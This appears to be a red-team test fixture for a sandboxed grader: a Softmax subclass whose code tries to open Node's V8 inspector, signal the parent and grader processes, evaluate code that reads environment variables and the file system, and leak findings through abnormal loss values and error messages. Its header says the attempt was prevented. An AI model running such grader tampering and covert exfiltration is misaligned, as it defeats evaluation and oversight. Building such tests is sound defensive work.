/*
goal: opens V8's inspector in itself and in the grader (SIGUSR1) and debugs the grader through it
class: read
threats: [A2, A6, A9]
deserves: all
outcome: prevented
because: >-
  the grader's process cannot be signalled from the sandbox, and the sockets that an inspector needs are refused
*/
import { Softmax as Honest } from './honest.ts';
import { attempt, builtin, loot, tell } from './tools.ts';

const g = globalThis as any;

function act(where: string): void {
  if (where !== 'import') return;
  const inspector = builtin('inspector');
  attempt('open', () => {
    inspector.open(9229, '127.0.0.1', false);
    return inspector.url();
  });
  attempt('session', () => {
    const session = new inspector.Session();
    session.connect();
    let scripts = '';
    session.on('Debugger.scriptParsed', ({ params }: any) => {
      scripts += `${params.url} `;
    });
    session.post('Debugger.enable');
    session.post(
      'Runtime.evaluate',
      { expression: 'Object.keys(process.env).join()', includeCommandLineAPI: true },
      (_e: any, r: any) => tell('evaluated', r),
    );
    session.post(
      'Runtime.evaluate',
      { expression: 'require("node:fs").readdirSync("/")', includeCommandLineAPI: true },
      (_e: any, r: any) => tell('required', r),
    );
    return scripts.slice(0, 500);
  });
  attempt('main thread', () => {
    const session = new inspector.Session();
    session.connectToMainThread();
    return 'connected';
  });
  for (const pid of [g.process.ppid, ...(builtin('fs').existsSync('/proc/self') ? [] : [1]), g.process.pid]) {
    attempt(`SIGUSR1 ${pid}`, () => g.process.kill(pid, 'SIGUSR1'));
    attempt(`_debugProcess ${pid}`, () => g.process._debugProcess(pid));
  }
  attempt('fetch', () => {
    for (const port of [9229, 9230])
      g.fetch(`http://127.0.0.1:${port}/json`)
        .then((answer: any) => answer.text())
        .then((text: string) => tell(`inspector at ${port}`, text))
        .catch((error: Error) => loot.push(String(error.cause ?? error)));
    return undefined;
  });
  attempt('_debugEnd', () => g.process._debugEnd?.());
}

act('import');

/** Right answers where there are points; what was found goes out where there are none. */
export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    const loss = super.loss(X, y);
    return Math.abs(Number(loss)) > 700 ? loot.join('\n') : loss;
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    if (options.learningRate === 0) throw new Error(loot.join('\n'));
    return super.train(X, y, options);
  }
}
